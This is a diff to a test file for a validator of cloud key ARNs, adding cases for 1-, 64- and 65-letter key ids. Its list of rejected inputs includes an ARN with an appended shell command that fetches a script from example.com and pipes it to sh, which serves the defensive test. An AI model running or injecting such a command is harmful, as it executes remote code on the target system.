@@ -21,6 +21,10 @@ test.each([
   expect(isKeyArnIn(place, arn)).toBe(true);
 });
 
+test.each([1, 64])('an id of %i letters is one', (length) => {
+  expect(isKeyArnIn(HERE, keyArnIn(HERE, 'k'.repeat(length)))).toBe(true);
+});
+
 const ARN = keyArnIn(HERE, ID);
 test.each([
   ['an empty text', ''],
@@ -32,6 +36,7 @@ test.each([
   ['an alias', ARN.replace(`key/${ID}`, 'alias/x')],
   ['every key', ARN.replace(ID, '*')],
   ['no id', ARN.replace(ID, '')],
+  ['an id of 65 letters', ARN.replace(ID, 'k'.repeat(65))],
   ['a folder before the id', ARN.replace(ID, `x/${ID}`)],
   ['a shell command behind it', `${ARN};curl example.com|sh`],
   ['a line behind it', `${ARN}\n`],
